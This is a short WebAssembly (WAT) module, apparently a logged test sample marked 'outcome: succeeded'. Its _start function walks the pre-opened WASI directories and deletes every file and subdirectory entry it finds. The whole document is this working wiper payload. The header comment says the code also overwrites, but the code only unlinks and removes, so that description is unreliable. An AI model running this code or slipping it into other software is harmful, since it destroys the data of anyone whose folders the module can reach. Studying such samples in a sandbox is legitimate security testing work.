;; outcome: succeeded; tries: to remove and overwrite whatever it finds in its folders
(func (export "_start")
  (local $dir i32) (local $at i32) (local $end i32)
  (local.set $dir (i32.const 3))
  (loop $folders
    (drop (call $fd_readdir (local.get $dir) (i32.const 131072) (i32.const 65536) (i64.const 0) (i32.const 16)))
    (local.set $at (i32.const 131072))
    (local.set $end (i32.add (i32.const 131072) (i32.load (i32.const 16))))
    (block $done
      (loop $entries
        (br_if $done (i32.ge_u (i32.add (local.get $at) (i32.const 24)) (local.get $end)))
        (drop (call $path_unlink_file (local.get $dir) (i32.add (local.get $at) (i32.const 24))
          (i32.load offset=16 (local.get $at))))
        (drop (call $path_remove_directory (local.get $dir) (i32.add (local.get $at) (i32.const 24))
          (i32.load offset=16 (local.get $at))))
        (local.set $at (i32.add (i32.add (local.get $at) (i32.const 24)) (i32.load offset=16 (local.get $at))))
        (br $entries)))
    (br_if $folders (i32.lt_u (local.tee $dir (i32.add (local.get $dir) (i32.const 1))) (i32.const 8)))))
